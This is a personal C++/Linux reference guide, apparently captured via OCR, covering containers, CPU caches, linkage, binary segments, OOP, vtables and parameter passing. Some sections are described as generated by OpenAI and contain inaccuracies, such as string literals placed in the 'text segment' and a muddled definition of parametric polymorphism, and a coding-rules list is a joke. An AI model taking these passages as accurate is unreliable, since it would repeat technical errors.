Teach yourself C++ in 45 years

A Computer Science survival guide for C++/Linux developers

Dean Turpin

Sat Mar 25 05:03:53 UTC 2023


An ode to C++Let’s start with a haiku written by a computer.

A powerful friend
C++ is here for the long run
Friendly and strong code

This reference is a distillation of 15+ years of online logbook notes into only the essentials that have continued to remain relevant as a senior software developer today. Just for fun – and where the topic is readilyavailable or established – I have reached out to OpenAI to provide a paragraph or two. Consequently, the exact content and the chapter order will vary each night. Hopefully this will keep repeat visits interesting and also prevents me focusing all my attention on the first few chapters.

If time is tight, try the random daily chapter.And you can also raise a ticket on this repo.

The C++ Standard Library containers

The C++ Standard Library containers are a powerful and efficient way to organize data and store it for easy retrieval. They provide a consistent interface for manipulating data and enable users to easily access and manipulate data in a convenient and efficient manner. The containers also provide a range of features such as memory management, performance optimization, and scalability that can help make the development process easier and more efficient.

  1. vector: a sequence container that stores elements in contiguous memory locations
  2. list: a doubly linked list, which allows for efficient insertion and removal of elements
  3. deque: a double-ended queue that allows for efficient insertion and removal of elements from both ends
  4. map: an associative container that stores elements in key-value pairs
  5. set: a container that stores elements in an sorted order and allows for fast retrieval
  6. stack: a container that follows the Last-In-First-Out (LIFO) principle
  7. queue: a container that follows the First-In-First-Out (FIFO) principle
  8. priority_queue: a container that stores elements in a sorted order and allows for fast retrieval of the largest element

Categories of containers

Sequence containers are containers that store elements in a linear fashion, with the elements being laidout in a specific order based on their position within the container. Examples of sequence containers include vectors, deques, and lists.

Associative containers are containers that store elements in an organized fashion, with the elements being laid out in a specific order based on a key associated with each element. Examples of associative containers include maps, sets, and multisets.


Processor caches are small, high-speed memory caches built into a processor to reduce the average time required to access data from the main memory. Cachesstore frequently used instructions and data so that the processor can access them quickly, reducing latency and allowing the processor to operate more efficiently. Caches are divided into levels, with the fastest and smallest caches located closer to the processor core, and larger and slower caches located further away.

Cache coherence

Cache coherence is a mechanism that maintains the consistency of data stored in multiple caches, so that data accessed by one processor is the same as that accessed by another. It ensures that when one processor reads a shared memory location, it will see the most up-to-date value. Cache coherence is an important part of computer architecture that helps to maintain data integrity in a system with multiple processors.

Cache misses

There are three kinds of cache misses:

  1. Instruction read miss
  2. Data read miss
  3. Data write miss

Cache misses occur when a processor tries to access data from the cache, but the data is not present in the cache. This causes the processor to access the data from the main memory, resulting in a slower operation and increased latency. Cache misses can be caused by a variety of factors, including insufficient cache size, an inefficient cache design, or an attempt to access data that was evicted from the cache due to memory constraints.

Data cache

Instruction cache

Virtual functions

The way virtual functions work may cause issues with caching.1. Load vtable pointer: potentially data cache miss
  2. Load virtual function pointer: potentially data cache miss
  3. Then code of function is called: potential instruction cache miss

But we may be able to use CRTP to avoid the first two.

Cache oblivious algorithm design

Typically a cache-oblivious algorithm works by a recursive divide and conquer algorithm, where the problem is divided into smaller and smaller sub-problems. Eventually, one reaches a sub-problem size that fits into cache, regardless of the cache size.

Data-oriented design

Design to get the most value out of every single cacheline that is read. Split apart the functions and data.

Cache locality

Cache locality is the tendency of a processor to access the same set of data or instructions repeatedly. It refers to the physical proximity of related data and instructions in memory. High cache locality can improve performance by reducing the number of memory accesses required to process a given set of data or instructions, reducing the amount of time spent waiting for memory accesses tocomplete.

Further reading


Typically parallelism makes you think “threads within a process” but it’s worth considering different points in the processing that could be executed/calculated in parallel.

Kinds of parallelism

The iron law of performance!

See wikipedia.time/program = instructions/program * clockCycles/instruction * time/clockCycles

Amdahl’s law

Amdahl’s law, named after computer scientist Gene Amdahl, is a concept in computer architecture that states that the theoretical speedup of a program using multiple processors in parallel computing is limited by the time needed for the sequential fraction of the program. In other words, the speedup that can be achieved by adding more processors is limited by the portion of the program that cannot beparallelized.

It’s very easy to optimise the bits your are familiar with but not obvious how much your efforts will benefit the overall process: spend your time on the bottlenecks.

C++ linkage

Internal Linkage: Internal linkage is a type of linkage that restricts visibility of an object or function to the same translation unit. Objects or functions with internal linkage can only be accessed within the same translation unit. This is done by using the static keyword before the type and name of the object or function.

External Linkage: External linkage is a type of linkage that allows an object or function to be accessed from outside the translation unit in which it is declared. Objects or functions with external linkage can be accessed from any translation unit. This is done by not using the static keyword before the type and name of the object or function.

Dependencies on static variables in different translation units are, in general, a code smell and should be a reason for refactoring.


If an object or function inside such a translation unit has internal linkage, then that specific symbol is only visible to the linker within that translation unit. If an object or function has external linkage, the linker can also see it when processing other translation units. The static keyword, when used in the global namespace, forces a symbol to have internal linkage. The extern keyword results in a symbol having external linkage.

Anonymous namepsaces

Used to declare many things with internal linkage.

namespace {
  int a = 0;
  int b = 0;
  int c = 0;

C++ standards

Features of note since C++11.


From the presentation by Marc Gregoire (CppCon 2022).

Not implemented yet

Ranges and views (part two)

A lot of effort has gone into ranges and views C++23.C++14 is an extension and improvement of C++11.


Binary structure

See Linux Debuginfo Formats - DWARF, ELF, dwo, dwp - What are They All? - Greg Law - CppCon 2022.

  1. Code segment: This segment contains the actual machine code instructions of the program.

  2. Data segment: This segment contains global and static variables, initialized and uninitialized.

  3. BSS segment: This segment contains uninitialized global and static variables.

  4. Text segment: This segment contains the program’s string literals.

  5. Heap segment: This segment is used for dynamic memory allocation during the run-time of the program.

  6. Stack segment: This segment stores local variables and function calls. It is also used for parameter passing between functions.

Movesemantics

This a large, complicated topic. See C++ Move Semantics - The Complete Guide by Nicolai M. Josuttis.

The rules of code

  1. A single file should contain fewer than 20000 lines of code
  2. It would be nice if a single routine could fit into 1000 lines of code
  3. Ensure comments are ignored by prefixing “todo”
  4. Use consistent formatting; even better, don’t bother and let clang-format do it
  5. Make everything constant, it’s much easier to reason about code when the data are immutable
  6. Unit testing is awesome and will almost certainly catch on

Unit testing

A test is not a unit test if:

See the complete article.

The magnitude of it allIn 2014 Randall Munroe estimated that Google stores 10 exabytes of data across all of its operations. However, as a C++ developer, you will only come across at most petabytes of storage; and if CPUs are topping out at gigahertz, then you won’t see anything much faster than a nanosecond.

                        1 000  kilo | milli .001
                    1 000 000  mega | micro .000 001
                1 000 000 000  giga | nano  .000 000 001
            1 000 000 000 000  tera | pico  .000 000 000 001
        1 000 000 000 000 000  peta | femto .000 000 000 000 001
    1 000 000 000 000 000 000   exa | atto  .000 000 000 000 000 001
1 000 000 000 000 000 000 000 zetta | zepto .000 000 000 000 000 000 001See list of SI prefixes.

You may be tempted to use binary prefixes to be more precise – kibi, mebi, gibi, etc – but most people won’t know what you’re talking about. Also, manufacturers tend to use 1000^3 rather than 2^20 because it makes their performance look better.

Important speeds you should be aware of

See why is everyone in such a rush?

1/1000000000 second == 1 nanosecond

Approximate durations of typical operations (rounded to help remember.)Action Duration (nanoseconds)
L1 cache read / variable increment <1
Branch misprediction 5
L2 cache read / std::atomic increment 10
Mutex lock/unlock / std::scoped_lock 20
Fetch from main memory 100
Send 2KiB over 1Gbps network 20,000
Create a std::thread 20,000
Send packet from US to Europe and back 200,000,000

Object-oriented programming

Object-oriented programming (OOP) is a programming language model organized around objects rather than "actions" and data rather than logic. It attempts to simulate the real world by creating objects that contain data and code to manipulate that data. OOP languages allow developers to create objects that can be reused indifferent programs. This modularity allows for more efficient development and maintenance of programs. OOP emphasizes the concept of inheritance, which allows objects to acquire the properties and behaviours of the objects from which they are derived. This allows for code reuse and reduces the need for rewriting code. OOP also encourages the use of abstraction, which reduces the amount of code needed to solve a problem. In addition, OOP facilitates the use of polymorphism, which allows the same code to be used for different types of objects.


Polymorphism refers to the ability for different types of data to be treated the same way. There are two main types of polymorphism:

  1. Ad-hoc polymorphism: Ad-hoc polymorphism is when a function or operator can take multiple types of arguments. This is commonly seen in languages such as Java and C++, where asingle function can accept arguments of different types.

  2. Parametric polymorphism: Parametric polymorphism is when a function or operator can take multiple types of arguments, but the type of argument is specified when the function is defined. This type of polymorphism is commonly seen in languages such as Haskell and ML, where a function can accept arguments of a specified type.

Virtual destructors

A standard question at interviews! A very nuanced feature of OOP in C++ but you can now test this at compile time with type traits.

Destructors must be declared virtual when the class contains virtual functions or is part of a polymorphic hierarchy. This ensures that the destructor of a derivedclass is called if it is deleted via a pointer to the polymorphic base class.

Virtual function specifier

The virtual specifier specifies that a non-static member function is virtual and supports dynamic dispatch. It may only appear in the decl-specifier-seq of the initial declaration of a non-static member function (i.e., when it is declared in the class definition).

In derived classes, you should mark overridden methods as override to express intention and also protect from the base class being changed unwittingly.

Virtual tables

A non-virtual class has a size of 1 because in C++ classes can’t have zero size (objects declared consecutively can’t have the same address.)

A virtual class has a size of 8 on a64-bit machine because there’s a hidden pointer inside it pointing to a vtable. vtables are static translation tables, created for each virtual-class.


RAII (Resource Acquisition Is Initialization) is a technique used in object-oriented programming to ensure that resources are properly allocated, released, and managed. It is achieved by tying the lifetime of the resource to the lifetime of an object. When the object is created, its resources are acquired, and when the object is destroyed, the resources are released. This ensures that resources are always released in a timely manner and helps prevent memory leaks and other resource-related issues.

C++ function parameters

For simple readonly types, pass by const value.

void func(const int p) {

For large readonly types – i.e., larger than a pointer – pass by const reference. You should also consider if the type is trivially copyable: requiring a shallow or deep copy.

void func(const big_type& p) {

If the first thing you do is make a copy, pass by non-const value.

void func(int p) {

If you want to modify the caller’s copy, pass by non-const reference.

void func(int& p) {

class or struct?

The only difference between a class and a struct is the default access level: public, protected, private.

But typically a struct is used for “plain old data” or memory-mapped data where you don’t want the members to align in a predictable way (virtuals/inheritance adds the complication of a vtable pointer.)

Either way, you can test your assertions at compile time withstatic_assert and the type traits header.

struct A {
  // public: <-- default for structs
  int x_;

